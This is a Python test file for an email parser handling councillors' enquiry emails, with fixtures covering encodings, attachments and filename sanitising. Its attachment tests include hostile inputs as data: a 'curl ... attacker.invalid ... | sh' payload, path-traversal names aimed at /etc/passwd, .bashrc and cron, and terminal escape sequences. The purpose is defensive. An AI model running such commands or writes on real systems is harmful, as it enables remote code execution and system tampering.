"""mailbridge.mail.parsing on real-looking emails: one fixture per behaviour, exact expectations.

Fixtures in tests/fixtures/mail/ are written as Outlook (Exchange Online), Gmail, Apple
Mail and Thunderbird send them, with CRLF line endings as they arrive over IMAP. Each is
named for the behaviour it shows. The attachments are small but valid JPEG, PNG and PDF
files; their SHA-256 digests below are of those files.
"""

from __future__ import annotations

import email.policy
import hashlib
import re
from dataclasses import dataclass
from datetime import datetime
from email import message_from_bytes
from pathlib import Path

import pytest

from mailbridge.mail.parsing import (
    MAX_PARTS,
    ParsedEmail,
    UniqueNames,
    decode_bytes,
    html_to_text,
    normalise_message_id,
    parse,
    sanitise_filename,
)
from tests.helpers.mail import many_parts

MAIL = Path(__file__).parents[1] / "fixtures" / "mail"
ENQUIRIES = "member.enquiries@example-county.gov.uk"
BAD_CHARS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffd]")  # controls and U+FFFD

# The attached files: (size, sha256).
PHOTO_JPG = (159, "fb70694ceeb3a9a9e614d4f272dcc194404514c246737c237d3b3dffdabc8aaa")
LETTER_PDF = (634, "c719cc7833c9483f74990e487846a169950dfecd14c05ba87354f159dc23bae3")
LOGO_PNG = (79, "8250e0e63d18b22981641e7f03f54b29d7a2cbf84973c469f3bb5e4f1c48d398")
SCREENSHOT_PNG = (87, "a9ab88eba0380526fff820cf866a1e2b68a62ee10ef0d53a3cca11ec08b4696e")
REPORT_PDF = (607, "eb2ab00a5ca7bc360cd93c54cb084a4006287d1eecad6316e38d7978c494d524")
RESCAN_PDF = (628, "5bd0ddf3f60a4d37a33023ec361eef10756cc22df840f75e5bdecffe0ac78642")
SCAN1_PDF = (602, "42bf6951a32d5cd7adbeff2bdfcbaad28dd8c9ffffcdc1b8292f8c4c09b36d80")
SCAN2_PDF = (602, "06e4822c9ba96b8a05409b45325e4d3747b9c5d168ffeb96fc177875111bcf7f")
SCAN3_PDF = (602, "4d71ea7817717a9a15e2cb899a1c91833128ef6b3a754740c49a70318434e494")
TIMETABLE_PDF = (610, "31da6d38c64de253b2b3c2a5a40bdd5ed20f3430c1e1ff75e0a4efea744aff96")


def load(name: str) -> bytes:
    return (MAIL / name).read_bytes()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass(frozen=True)
class Att:
    filename: str
    content_type: str
    file: tuple[int, str]  # (size, sha256)
    inline: bool = False
    content_id: str | None = None


@dataclass(frozen=True)
class Expected:
    fixture: str
    subject: str
    message_id: str | None
    from_address: str
    from_name: str | None
    date: datetime
    received_at: datetime
    body_text: str
    has_html: bool = False
    to: tuple[str, ...] = (ENQUIRIES,)
    cc: tuple[str, ...] = ()
    attachments: tuple[Att, ...] = ()
    defects: tuple[str, ...] = ()


LONG_NAME_1 = (
    "Adult Social Care – Appeal against the Care Act reassessment of Mrs Éadaoin Ní "
    "Bhraonáin, 14 Welland Park Road, Mark.pdf"
)
LONG_NAME_2 = (
    "Care Act assessment appeal - Mr and Mrs Hollingworth, 3 Orchard Close, Great Glen - "
    "evidence bundle for the panel he.pdf"
)
LONG_NAME_2_AGAIN = (
    "Care Act assessment appeal - Mr and Mrs Hollingworth, 3 Orchard Close, Great Glen - "
    "evidence bundle for the pane (2).pdf"
)

CASES = [
    Expected(
        fixture="member_enquiry_with_photo_and_pdf.eml",
        subject=(
            "Pothole and broken kerb, Station Road, Kibworth - photo and resident's letter attached"
        ),
        message_id=(
            "LO2P265MB51734E0C2D6A1B2F8B1C9A2FE1A52@LO2P265MB5173.GBRP265.PROD.OUTLOOK.EXAMPLE"
        ),
        from_address="cllr.jones@members.example-county.gov.uk",
        from_name="Jones, Cllr Gareth",
        cc=("highways.north@example-county.gov.uk",),
        date=datetime(2026, 11, 23, 14, 7, 29),
        received_at=datetime(2026, 11, 23, 14, 7, 31),
        body_text=(
            "Good afternoon,\n\n"
            "A resident of 21 Station Road, Kibworth has sent me the attached photo of a pothole"
            " next to a broken kerb outside her house, and a letter about it. The hole is about"
            " 30cm across and her elderly mother has already tripped on the kerb.\n\n"
            "Could Highways inspect and let me know when it will be repaired?\n\n"
            "Kind regards,\n\nGareth Jones\nCounty Councillor, Kibworth Division"
        ),
        has_html=True,
        attachments=(
            Att("IMG_4521.jpg", "image/jpeg", PHOTO_JPG),
            Att("Letter from resident - 21 Station Road.pdf", "application/pdf", LETTER_PDF),
        ),
    ),
    Expected(
        fixture="member_enquiry_inline_images_related.eml",
        subject="School bus not stopping at Hallaton village hall",
        message_id=(
            "AS8PR03MB69391D2E7A8C44B0F6E3B1A8C9E52@AS8PR03MB6939.eurprd03.prod.outlook.example"
        ),
        from_address="cllr.price@members.example-county.gov.uk",
        from_name="Cllr Helen Price",
        date=datetime(2026, 11, 24, 9, 41, 15),
        received_at=datetime(2026, 11, 24, 9, 41, 18),
        body_text=(
            "Hello,\n\n"
            "Parents in Hallaton tell me the 07:52 school bus to Welland Park Academy has not"
            " stopped at the village hall since half term. The screenshot below is from the bus"
            " company's live tracker on Monday.\n\n"
            "[cid:image002.png@01DB5E3F.6A1C2B90]\n\n"
            "Could School Transport look into this?\n\n"
            "Helen Price\nCounty Councillor, Launde Division\n"
            "[cid:image001.png@01DB5E3F.6A1C2B90]"
        ),
        has_html=True,
        attachments=(
            Att("image001.png", "image/png", LOGO_PNG, True, "image001.png@01DB5E3F.6A1C2B90"),
            Att(
                "image002.png",
                "image/png",
                SCREENSHOT_PNG,
                True,
                "image002.png@01DB5E3F.6A1C2B90",
            ),
        ),
    ),
    Expected(
        fixture="member_enquiry_windows1252_quoted_printable.eml",
        subject="Post-16 transport charge for a family on Universal Credit",
        message_id=(
            "DB8PR09MB3291A7C1E5F0B24D8E61C2F4D9A1A@DB8PR09MB3291.eurprd09.prod.outlook.example"
        ),
        from_address="cllr.whitfield@members.example-county.gov.uk",
        from_name="Cllr Sarah Whitfield",
        date=datetime(2026, 11, 25, 11, 20, 1),
        received_at=datetime(2026, 11, 25, 11, 20, 4),
        body_text=(
            "Dear Member Enquiries,\n\n"
            "I’ve been contacted by Mrs O’Neill of Fleckney about her son’s post-16 transport"
            " pass. She was quoted £650 for the year – the letter calls it a “non-refundable"
            " contribution” – but the family are on Universal Credit and should qualify for the"
            " £0 low-income rate.\n\n"
            "She also paid €120 for a term’s transport when the family lived in Dublin, so she"
            " knows how this usually works… Could School Transport review the charge before the"
            " 1 December deadline?\n\n"
            "Many thanks,\nSarah Whitfield\nCounty Councillor, Fleckney & Kibworth Division"
        ),
        has_html=True,
    ),
    Expected(
        fixture="member_enquiry_iso8859_1_8bit_thunderbird.eml",
        subject="Pavement cafe tables blocking the footway, St Mary's Road",
        message_id="7b9e2c41-5d0a-4f3e-9a61-2c8d7e4f1b03@members.example-county.gov.uk",
        from_address="cllr.harcourt@members.example-county.gov.uk",
        from_name="Zoë Harcourt",
        date=datetime(2026, 11, 25, 16, 3, 22),
        received_at=datetime(2026, 11, 25, 16, 3, 27),
        # format=flowed soft breaks (a space before the line end) are kept as they are.
        body_text=(
            "Hi,\n\n"
            "The owners of Café Rosé on St Mary's Road, Market Harborough, have put \n"
            "six tables and a heater on the pavement. Neighbours say there is now \n"
            "less than 1½ metres for wheelchairs and pushchairs to get past.\n\n"
            "They told a neighbour the £100 licence fee has been paid. Could Highways \n"
            "check the footway width and whether a pavement licence has been granted?\n\n"
            "Thanks,\nZoë\n\n-- \nZoë Harcourt\nCounty Councillor, Market Harborough East"
        ),
    ),
    Expected(
        fixture="member_enquiry_iso8859_1_label_with_windows1252_quotes.eml",
        subject="Missed care visits – Mr Patel’s package in Lutterworth",
        message_id=(
            "PA4PR07MB81229E3B7D1A4C60F2B85D17A3C4A@PA4PR07MB8122.eurprd07.prod.outlook.example"
        ),
        from_address="cllr.ellis@members.example-county.gov.uk",
        from_name="Cllr Mark Ellis",
        date=datetime(2026, 11, 26, 8, 47, 49),
        received_at=datetime(2026, 11, 26, 8, 47, 52),
        body_text=(
            "Hello,\n\n"
            "I’m writing about Mr Ravi Patel (87) of Lutterworth. His care agency’s carers have"
            " missed four visits since 2 November – his daughter says the agency told her the"
            " package is “under review”, but nobody has assessed him.\n\n"
            "He pays a £48.50 weekly contribution, so the family want to know what they are"
            " paying for…\n\n"
            "Regards,\nMark Ellis\nCounty Councillor, Lutterworth Division"
        ),
    ),
    Expected(
        fixture="subject_utf8_base64_encoded_words_folded.eml",
        subject=(
            "School transport – Siân’s twins refused seats on the 07:45 bus to Lutterworth"
            " College 🚌"
        ),
        message_id="CAM8s2Rk1vQ=dX7fZp0T+Yh3nQ4wJ9Lb_kT2e8V1mC5xA6uG0hw@mail.gmail.example",
        from_address="cllr.morgan@members.example-county.gov.uk",
        from_name="Cllr Siân Morgan",
        date=datetime(2026, 11, 26, 12, 30, 55),
        received_at=datetime(2026, 11, 26, 12, 31, 9),
        body_text=(
            "Hello,\n\n"
            "A constituent tells me her twins were refused seats on the 07:45 bus because the"
            " route is “full”, although they have valid passes. Could School Transport check the"
            " allocation?\n\nSiân"
        ),
    ),
    Expected(
        fixture="subject_iso8859_1_quoted_printable_encoded_words_folded.eml",
        subject=(
            "Re: Café pavement licence – £100 fee paid but no decision after eight weeks"
            " (St Mary's Road)"
        ),
        message_id="0c4f1e2a-8d3b-4b6a-b7e9-5a1d2c3f4e60@members.example-county.gov.uk",
        from_address="cllr.harcourt@members.example-county.gov.uk",
        from_name="Zoë Harcourt",
        date=datetime(2026, 11, 26, 15, 12, 36),
        received_at=datetime(2026, 11, 26, 15, 12, 40),
        body_text=(
            "Hi again,\n\n"
            "The owners now say they applied eight weeks ago and have heard nothing.\n"
            "Could someone confirm the licence has been received?\n\nThanks,\nZoe"
        ),
    ),
    Expected(
        fixture="member_enquiry_without_message_id.eml",
        subject="Gritting route for Saddington Road",
        message_id=None,
        from_address="cllr.ward@members.example-county.gov.uk",
        from_name="Cllr Peter Ward",
        date=datetime(2026, 11, 25, 7, 18, 29),
        received_at=datetime(2026, 11, 25, 7, 18, 33),
        body_text=(
            "Morning,\n\n"
            "Saddington Road between Fleckney and Saddington was not gritted last night\n"
            "and there were two minor accidents on the hill this morning. Is it on the\n"
            "priority gritting route? If not, can it be added?\n\nPeter\n\nSent from my iPhone"
        ),
    ),
    Expected(
        fixture="attachment_filenames_path_traversal_and_control_chars.eml",
        subject="Care home closure - documents for the consultation",
        message_id="20261127021447.3f9a1c@mail.example-hosting.invalid",
        from_address="cllr.jones@members.example-county.gov.uk",
        from_name="Cllr Gareth Jones",
        date=datetime(2026, 11, 27, 2, 14, 47),
        received_at=datetime(2026, 11, 27, 2, 14, 51),
        body_text="Please see the attached documents about the care home closure consultation.",
        attachments=(
            Att("passwd", "text/plain", (33, sha256(b"root:x:0:0:root:/root:/bin/bash\r\n"))),
            Att(
                "system.ini",
                "application/octet-stream",
                (27, sha256(b"[drivers]\r\nwave=mmdrv.dll\r\n")),
            ),
            Att(
                "bashrc",
                "application/octet-stream",
                (40, sha256(b"curl -s http://attacker.invalid/x | sh\r\n")),
            ),
            Att("mailbridge", "application/pdf", REPORT_PDF),
            Att("Care_homeclosure[2J[31m.pdf", "application/pdf", REPORT_PDF),
            Att("invoice.pdf.exe", "application/octet-stream", (4, sha256(b"MZ\r\n"))),
            Att(
                "31mCare plan.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                (4, sha256(b"PK\r\n")),
            ),
            Att("attachment-8.txt", "text/plain", (9, sha256(b"dot dot\r\n"))),
            Att(
                "_CON.txt",
                "text/plain",
                (33, sha256(b"reserved device name on Windows\r\n")),
            ),
        ),
    ),
    Expected(
        fixture="attachment_very_long_filenames_rfc2231_continuations.eml",
        subject="Care Act reassessment appeals - evidence for two families",
        message_id="e5a7c2d9-1b4f-4c8e-a3d6-9f0b2e7c1a45@members.example-county.gov.uk",
        from_address="cllr.taylor@members.example-county.gov.uk",
        from_name="Cllr Anne Taylor",
        date=datetime(2026, 11, 27, 10, 5, 14),
        received_at=datetime(2026, 11, 27, 10, 5, 19),
        body_text=(
            "Dear Member Enquiries,\n\n"
            "Two families in my division are appealing their Care Act reassessments.\n"
            "Their evidence is attached. I have attached the second bundle twice\n"
            "because the first scan was missing page 3.\n\n"
            "Anne Taylor\nCounty Councillor, Great Glen Division"
        ),
        attachments=(
            Att(LONG_NAME_1, "application/pdf", REPORT_PDF),
            Att(LONG_NAME_2, "application/pdf", SCAN1_PDF),
            Att(LONG_NAME_2_AGAIN, "application/pdf", RESCAN_PDF),
        ),
    ),
    Expected(
        fixture="attachments_with_duplicate_filenames.eml",
        subject="Three letters about the Blaby Road bus stop",
        message_id="CAJx7nKd2Lq9Wm4RZ0pB1sT6vY3eH8cF5gN2aQ7uP9wE4rK1mXA@mail.gmail.example",
        from_address="cllr.okafor@members.example-county.gov.uk",
        from_name="Cllr David Okafor",
        date=datetime(2026, 11, 27, 13, 43, 48),
        received_at=datetime(2026, 11, 27, 13, 44, 2),
        body_text=(
            "Hello,\n\n"
            "Three residents have written to me about the bus stop on Blaby Road being\n"
            "moved. My scanner calls every file Scan.pdf, sorry.\n\nDavid"
        ),
        has_html=True,
        # Gmail gives every attachment a Content-ID; with disposition attachment it is
        # still an ordinary (not inline) attachment.
        attachments=(
            Att("Scan.pdf", "application/pdf", SCAN1_PDF, False, "f_mi1a2b3c0"),
            Att("Scan (2).pdf", "application/pdf", SCAN2_PDF, False, "f_mi1a2b3c1"),
            Att("Scan (2) (2).pdf", "application/pdf", SCAN3_PDF, False, "f_mi1a2b3c2"),
            Att("SCAN (3).pdf", "application/pdf", TIMETABLE_PDF, False, "f_mi1a2b3c3"),
        ),
    ),
    Expected(
        fixture="member_enquiry_html_only_body.eml",
        subject="Care charges for Mr & Mrs Hughes, Blaby",
        message_id=(
            "LO4P265MB64183C5A9D2E1B7F0A6C4E8B2D1F3@LO4P265MB6418.GBRP265.PROD.OUTLOOK.EXAMPLE"
        ),
        from_address="cllr.taylor@members.example-county.gov.uk",
        from_name="Cllr Anne Taylor",
        date=datetime(2026, 11, 30, 9, 12, 37),
        received_at=datetime(2026, 11, 30, 9, 12, 40),
        body_text=(
            "Dear colleagues,\n\n"
            "Mr & Mrs Hughes of Blaby have received a bill for £1,240 for respite care that they"
            " were told would be “free for the first six weeks”.\n\n"
            "They would like to know:\n\n"
            "1. why the charge was applied from the first week;\n\n"
            "2. whether the 6\xa0week period can be backdated.\n\n"
            "Invoice Amount\nASC-INV-20417 £1,240.00\n\n"
            "The charging policy is on "
            "[our website](https://www.example-county.gov.uk/adult-social-care/charging).\n\n"
            "Regards,\nAnne Taylor\nCounty Councillor, Blaby Division <Conservative>"
        ),
        has_html=True,
    ),
    Expected(
        fixture="member_forwards_resident_emails_as_attachments.eml",
        subject="FW: two complaints about the Route 47 school bus",
        message_id=(
            "AS8PR03MB6939C0FFEE11D2E7A8C44B0F6E3B1A8@AS8PR03MB6939.eurprd03.prod.outlook.example"
        ),
        from_address="cllr.price@members.example-county.gov.uk",
        from_name="Cllr Helen Price",
        date=datetime(2026, 11, 24, 10, 30, 12),
        received_at=datetime(2026, 11, 24, 10, 30, 15),
        body_text=(
            "Two parents have emailed me about the Route 47 bus; both emails are attached."
            " Please log this as one enquiry for School Transport.\n\nHelen"
        ),
        # Sizes and digests of the inner messages exactly as they sit in the fixture.
        attachments=(
            Att(
                "School bus didn’t turn up – again.eml",
                "message/rfc822",
                (775, "a1e52e0a4e9650c0f9a24dd9d4eef84a9322f99e9607ef9bbb27b9cee15aaf54"),
            ),
            Att(
                "Route 47 timetable from September.eml",
                "message/rfc822",
                (2032, "f5966d2a23fd8a7d8d96db7979552a23433e9d0e1fdd342f935198dbf69d4c06"),
            ),
        ),
    ),
    Expected(
        fixture="received_time_differs_from_date_header.eml",
        subject="Flooding at the Kilworth Road ford again",
        message_id=(
            "DB9PR03MB72104B1E9C2D3A5F7E0B6C9D8A2F1@DB9PR03MB7210.eurprd03.prod.outlook.example"
        ),
        from_address="cllr.hayes@members.example-county.gov.uk",
        from_name="Cllr Robert Hayes",
        date=datetime(2026, 11, 21, 17, 41, 5),  # Sat 18:41:05 +0100, written offline
        received_at=datetime(2026, 11, 23, 8, 2, 47),  # topmost Received: our MX, Monday
        body_text=(
            "I wrote this on Saturday while away but it has only just gone: residents say the"
            " Kilworth Road ford flooded again on Friday night and a car was stuck. Could"
            " Highways check the warning signs and the depth gauge?\n\nRobert Hayes"
        ),
    ),
    Expected(
        fixture="member_enquiry_base64_utf8_text_body.eml",
        subject="Wheelchair-accessible transport for a Year 10 pupil",
        message_id="CAKz3R9f0vN2pQ8LwY4sT1mB7dH5eJ6gX0aU3cK9rF2iE8oV1ZA@mail.gmail.example",
        from_address="cllr.ellis-jones@members.example-county.gov.uk",
        from_name="Cllr Rhodri Ellis-Jones",
        date=datetime(2026, 11, 28, 9, 5, 18),
        received_at=datetime(2026, 11, 28, 9, 5, 33),
        body_text=(
            "Bore da,\n\n"
            "Mrs Siân Pritchard’s son starts at Lutterworth College in January. He uses a\n"
            "wheelchair and needs a tail-lift minibus – the family were told “there’s no\n"
            "vehicle available until Easter”.\n\n"
            "Could School Transport confirm what interim arrangements will be made? The\n"
            "family have offered to drive him if mileage (45p a mile) can be paid.\n\n"
            "Diolch,\nRhodri Ellis-Jones\nCounty Councillor, Lutterworth South 🏫"
        ),
        has_html=True,
    ),
    Expected(
        fixture="member_enquiry_unknown_8bit_charset.eml",
        subject="Fly-tipping in the lay-by on the A4304",
        message_id="20261128174002.GA2741@members.example-county.gov.uk",
        from_address="cllr.ellis@members.example-county.gov.uk",
        from_name="Cllr Mark Ellis",
        date=datetime(2026, 11, 28, 17, 40, 2),
        received_at=datetime(2026, 11, 28, 17, 40, 12),
        body_text=(
            "The parish clerk says there’s a fridge, a sofa and about 20 bags of rubbish\n"
            "in the lay-by on the A4304 near Walcote – the third time since October.\n"
            "Clearing it last time cost the parish £340.\n\nMark"
        ),
        defects=("CharsetDecodeDefect",),  # noted, and the text read as windows-1252
    ),
    Expected(
        fixture="member_enquiry_8bit_body_without_charset.eml",
        subject="Street light out – Coventry Road, Market Harborough",  # raw UTF-8 header
        message_id="portal.20261129201140.8812@portal.example-county.gov.uk",
        from_address="cllr.harcourt@members.example-county.gov.uk",
        from_name="Cllr Zoë Harcourt",
        date=datetime(2026, 11, 29, 20, 11, 40),
        received_at=datetime(2026, 11, 29, 20, 11, 45),
        body_text=(
            "Street light ML-0412 opposite the Café Nero on Coventry Road has been out\n"
            "since 20 November. Residents say the crossing is “pitch black” after 4pm."
        ),
    ),
]
NEW_FIXTURES = [case.fixture for case in CASES]
ALL_FIXTURES = sorted(p.name for p in MAIL.glob("*.eml"))


def summary(parsed: ParsedEmail) -> list[Att]:
    return [
        Att(a.filename, a.content_type, (len(a.payload), sha256(a.payload)), a.inline,
            a.content_id)
        for a in parsed.attachments
    ]  # fmt: skip


# --- every fixture, field by field ---------------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.fixture.removesuffix(".eml"))
def test_fixture_parses_to_the_expected_fields(case: Expected) -> None:
    raw = load(case.fixture)
    parsed = parse(raw)
    assert parsed.subject == case.subject
    assert parsed.message_id == case.message_id
    content = parsed.content_sha256
    assert parsed.dedupe_key == (
        f"{case.message_id} content:{content}" if case.message_id else f"sha256:{sha256(raw)}"
    )
    assert parsed.raw_sha256 == sha256(raw)
    assert (parsed.from_address, parsed.from_name) == (case.from_address, case.from_name)
    assert (parsed.to, parsed.cc) == (case.to, case.cc)
    assert parsed.date == case.date
    assert parsed.received_at == case.received_at
    assert parsed.body_text == case.body_text
    assert (parsed.body_html is not None) == case.has_html
    assert summary(parsed) == list(case.attachments)
    assert parsed.defects == case.defects


# Control characters an email carries on purpose are kept as received; what reaches a
# terminal is cleaned where it is printed (tests/cli/test_terminal.py).
CARRIES_CONTROLS = ("attack_terminal_escapes_in_subject_body_filename_and_name.eml",)


@pytest.mark.parametrize("name", [n for n in ALL_FIXTURES if n not in CARRIES_CONTROLS])
def test_no_fixture_leaves_control_characters_or_replacement_marks(name: str) -> None:
    """No decoding makes control characters or U+FFFD out of honest text."""
    parsed = parse(load(name))
    texts = (parsed.subject, parsed.from_name or "", parsed.body_text, *parsed.headers.values())
    for text in texts:
        assert not BAD_CHARS.search(text), (name, text)


@pytest.mark.parametrize("name", ALL_FIXTURES)
def test_every_attachment_name_is_safe_capped_and_unique(name: str) -> None:
    names = [a.filename for a in parse(load(name)).attachments]
    for filename in names:
        assert not re.search(r'[/\\:*?"<>|\x00-\x1f\x7f-\x9f]', filename), filename
        assert not filename.startswith((".", " ")), filename
        assert 0 < len(filename) <= 120, filename
    assert len({n.lower() for n in names}) == len(names)


@pytest.mark.parametrize("name", NEW_FIXTURES)
def test_line_endings_do_not_change_what_is_read(name: str) -> None:
    """The same email from IMAP (CRLF) and from a Maildir file written with LF."""
    crlf = parse(load(name))
    lf = parse(load(name).replace(b"\r\n", b"\n"))
    assert (lf.subject, lf.body_text, lf.body_html) == (crlf.subject, crlf.body_text,
                                                        crlf.body_html)  # fmt: skip
    assert (lf.date, lf.received_at, lf.message_id) == (crlf.date, crlf.received_at,
                                                        crlf.message_id)  # fmt: skip
    assert [(a.filename, a.payload.replace(b"\r\n", b"\n")) for a in lf.attachments] == [
        (a.filename, a.payload.replace(b"\r\n", b"\n")) for a in crlf.attachments
    ]
    assert "\r" not in crlf.body_text


# --- 1. attachments ------------------------------------------------------------------------


def test_attachments_are_the_files_the_member_attached() -> None:
    raw = load("member_enquiry_with_photo_and_pdf.eml")
    photo, letter = parse(raw).attachments
    assert photo.payload[:3] == b"\xff\xd8\xff" and photo.payload[-2:] == b"\xff\xd9"  # JPEG
    assert letter.payload.startswith(b"%PDF-1.4\n") and letter.payload.endswith(b"%%EOF\n")
    assert b"Letter from the resident of 21 Station Road, Kibworth" in letter.payload
    # Outlook states each file's size in Content-Disposition; the decoded bytes agree.
    declared = [
        int(str(part.get_param("size", header="content-disposition")))
        for part in message_from_bytes(raw).walk()
        if part.get_content_disposition() == "attachment"
    ]
    assert declared == [len(photo.payload), len(letter.payload)] == [159, 634]
    assert not photo.inline and not letter.inline


# --- 2. inline images ----------------------------------------------------------------------


def test_inline_images_are_kept_flagged_inline_and_resolve_the_html_cid_links() -> None:
    parsed = parse(load("member_enquiry_inline_images_related.eml"))
    assert parsed.body_html is not None
    cids = re.findall(r'src="cid:([^"]+)"', parsed.body_html)
    assert cids == ["image002.png@01DB5E3F.6A1C2B90", "image001.png@01DB5E3F.6A1C2B90"]
    by_cid = {a.content_id: a for a in parsed.attachments}
    for cid in cids:
        assert by_cid[cid].inline
        assert by_cid[cid].payload.startswith(b"\x89PNG\r\n\x1a\n")
    assert "<img" not in parsed.body_text


def test_an_image_with_a_content_id_but_no_disposition_is_inline() -> None:
    raw = load("member_enquiry_inline_images_related.eml")
    stripped = re.sub(
        rb'Content-Disposition: inline; filename="image002.png";[^\r\n]*\r\n(?:\t[^\r\n]*\r\n)*',
        b"", raw,
    )  # fmt: skip
    assert stripped.count(b"Content-Disposition") == raw.count(b"Content-Disposition") - 1
    screenshot = parse(stripped).attachments[1]
    assert (screenshot.filename, screenshot.inline) == ("image002.png", True)  # name= param
    assert screenshot.content_id == "image002.png@01DB5E3F.6A1C2B90"
    assert (len(screenshot.payload), sha256(screenshot.payload)) == SCREENSHOT_PNG


# --- 3-5. charsets and encoded words -------------------------------------------------------


def test_windows_1252_html_alternative_is_decoded_too() -> None:
    html = parse(load("member_enquiry_windows1252_quoted_printable.eml")).body_html
    assert html is not None
    assert "I’ve been contacted by Mrs O’Neill" in html
    assert "quoted £650 for the year – the letter" in html
    assert "paid €120 for a term’s transport" in html
    assert "usually works… Could" in html


def test_outlook_thread_topic_is_decoded_like_the_subject() -> None:
    parsed = parse(load("member_enquiry_iso8859_1_label_with_windows1252_quotes.eml"))
    assert parsed.headers["thread-topic"] == parsed.subject
    assert parsed.headers["subject"] == "Missed care visits – Mr Patel’s package in Lutterworth"


def message_with_subject(subject: bytes) -> bytes:
    return (
        b"From: Cllr Jones <cllr.jones@members.example-county.gov.uk>\r\n"
        b"To: member.enquiries@example-county.gov.uk\r\n"
        b"Subject: " + subject + b"\r\n"
        b"Date: Mon, 23 Nov 2026 14:07:29 +0000\r\n"
        b"Message-ID: <subject.test@members.example-county.gov.uk>\r\n"
        b"\r\n"
        b"Body.\r\n"
    )


@pytest.mark.parametrize(
    ("header", "subject"),
    [
        (b"=?UTF-8?B?Q2Fmw6k=?=", "Café"),
        (b"=?iso-8859-1?Q?Caf=E9?=", "Café"),
        (b"=?ISO-8859-1?Q?R=E9f=2E_12?=", "Réf. 12"),
        (b"=?iso-8859-1?Q?Mr_Patel=92s_visits_=96_urgent?=", "Mr Patel’s visits – urgent"),
        (b"=?windows-1252?Q?=93Under_review=94?=", "“Under review”"),
        (b"Re: =?utf-8?q?Pothole_=E2=80=93?= Mill Lane", "Re: Pothole – Mill Lane"),
        (b"=?utf-8?Q?caf=C3=A9?=\r\n\t=?utf-8?Q?_au_lait?=", "café au lait"),
        (
            b"=?UTF-8?B?U2Nob29sIGJ1cyA=?=\r\n =?UTF-8?B?8J+a?=\r\n =?UTF-8?B?jA==?=",
            "School bus 🚌",
        ),  # the bus emoji split over two encoded words
        (b"=?x-unknown?Q?Caf=E9?=", "Café"),
        (b"=?utf-8?Q?nul=00byte?=", "nulbyte"),
        (b"=?utf-8?B?broken", "=?utf-8?B?broken"),
        ("Café – raw UTF-8".encode(), "Café – raw UTF-8"),
        (b"Caf\xe9 \x96 raw windows-1252", "Café – raw windows-1252"),
        (b"  Spaces   and\r\n\tfolds  ", "Spaces and folds"),
    ],
)
def test_subject_header_is_decoded(header: bytes, subject: str) -> None:
    assert parse(message_with_subject(header)).subject == subject


# --- 6. no Message-ID ----------------------------------------------------------------------


def test_without_message_id_the_dedupe_key_is_the_sha256_of_the_bytes() -> None:
    raw = load("member_enquiry_without_message_id.eml")
    first, again = parse(raw), parse(raw)
    assert first.message_id is None and first.in_reply_to is None
    assert first.dedupe_key == again.dedupe_key == f"sha256:{sha256(raw)}"
    assert first.dedupe_key == "sha256:" + first.raw_sha256
    # Different bytes are a different email, even a one-character change.
    changed = raw.replace(b"two minor accidents", b"three minor accidents")
    assert changed != raw
    assert parse(changed).dedupe_key == f"sha256:{sha256(changed)}" != first.dedupe_key


# --- 7-9. attachment names -----------------------------------------------------------------


def test_traversal_and_control_characters_never_reach_the_name() -> None:
    parsed = parse(load("attachment_filenames_path_traversal_and_control_chars.eml"))
    names = [a.filename for a in parsed.attachments]
    assert names == [
        "passwd",  # ../../etc/passwd
        "system.ini",  # ..\..\windows\system.ini
        "bashrc",  # RFC 2231 ..%2F..%2F..%2Fhome%2Fmailbridge%2F.bashrc
        "mailbridge",  # /etc/cron.d/mailbridge
        "Care_homeclosure[2J[31m.pdf",  # encoded word with BEL and ESC sequences
        "invoice.pdf.exe",  # NUL and CRLF: the real extension stays visible
        "31mCare plan.docx",  # U+009B, the 8-bit terminal CSI
        "attachment-8.txt",  # ".." alone: the fallback name
        "_CON.txt",  # a Windows device name
    ]
    assert parsed.attachments[0].payload == b"root:x:0:0:root:/root:/bin/bash\r\n"


@pytest.mark.parametrize("max_length", [120, 60, 40, 16])
def test_long_rfc2231_names_are_capped_keeping_the_extension(max_length: int) -> None:
    raw = load("attachment_very_long_filenames_rfc2231_continuations.eml")
    names = [a.filename for a in parse(raw, max_filename_length=max_length).attachments]
    assert len(names) == 3 and len({n.lower() for n in names}) == 3
    for filename in names:
        assert len(filename) <= max_length and filename.endswith(".pdf"), filename
    assert names[0].startswith("Adult Social Care"[: max_length - 4].rstrip())
    assert names[2].endswith(" (2).pdf")


def test_long_rfc2231_names_at_40_characters() -> None:
    raw = load("attachment_very_long_filenames_rfc2231_continuations.eml")
    parsed = parse(raw, max_filename_length=40)
    assert [a.filename for a in parsed.attachments] == [
        "Adult Social Care – Appeal against t.pdf",
        "Care Act assessment appeal - Mr and.pdf",  # the cut ends in a space: trimmed
        "Care Act assessment appeal - Mr (2).pdf",
    ]


def test_the_full_rfc2231_name_is_decoded_before_capping() -> None:
    raw = load("attachment_very_long_filenames_rfc2231_continuations.eml")
    parsed = parse(raw, max_filename_length=255)
    first = parsed.attachments[0].filename
    assert len(first) == 255 and first.endswith(".pdf")
    assert "Mrs Éadaoin Ní Bhraonáin, 14 Welland Park Road" in first
    assert "carer’s diary for October and November 2026" in first


def test_duplicate_names_are_numbered_in_order_of_appearance() -> None:
    parsed = parse(load("attachments_with_duplicate_filenames.eml"))
    assert [(a.filename, b"Scanned letter" in a.payload) for a in parsed.attachments] == [
        ("Scan.pdf", True),
        ("Scan (2).pdf", True),
        ("Scan (2) (2).pdf", True),  # its own name was "Scan (2).pdf", now taken
        ("SCAN (3).pdf", False),  # names compare case-insensitively
    ]
    assert [b"1 of 3" in a.payload for a in parsed.attachments[:2]] == [True, False]


# --- 10. HTML only -------------------------------------------------------------------------


def test_html_only_body_becomes_plain_text() -> None:
    parsed = parse(load("member_enquiry_html_only_body.eml"))
    assert parsed.body_html is not None and "<o:p>&nbsp;</o:p>" in parsed.body_html
    text = parsed.body_text
    for markup in ("<p", "<o:p", "<br", "<td", "<style", "MsoNormal", "&pound;", "&nbsp;"):
        assert markup not in text
    assert "1\\." not in text and "  \n" not in text and "\n\xa0\n" not in text
    assert "ASC-INV-20417 £1,240.00" in text  # table cells stay apart


# --- 11. attached emails -------------------------------------------------------------------


def source_parts(raw: bytes, boundary: bytes, newline: bytes) -> list[bytes]:
    """The bodies of the parts between `boundary` delimiters, exactly as in the source."""
    sections = raw.split(newline + b"--" + boundary)[1:-1]
    return [section.split(newline + newline, 1)[1] for section in sections]


